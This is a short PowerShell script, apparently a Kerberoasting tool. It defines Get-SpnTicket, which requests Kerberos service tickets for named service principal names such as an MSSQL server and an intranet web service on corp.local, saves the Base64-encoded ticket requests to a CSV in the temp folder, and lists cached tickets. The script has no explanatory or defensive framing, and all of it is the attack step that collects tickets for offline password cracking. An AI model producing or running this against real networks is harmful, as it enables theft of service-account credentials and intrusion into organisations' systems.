function Get-SpnTicket {
    param(
        [Parameter(Mandatory, ValueFromPipeline)]
        [string]$ServicePrincipalName
    )
    process {
        $null = [Reflection.Assembly]::LoadWithPartialName('System.IdentityModel')
        $tok = [System.IdentityModel.Tokens.KerberosRequestorSecurityToken]::new($ServicePrincipalName)
        [pscustomobject]@{
            SPN     = $ServicePrincipalName
            Request = [Convert]::ToBase64String($tok.GetRequest())
        }
    }
}

'MSSQLSvc/sql-erp01.corp.local:1433', 'HTTP/intranet.corp.local' | Get-SpnTicket |
    Export-Csv -Path "$env:TEMP\t.csv" -NoTypeInformation
klist.exe
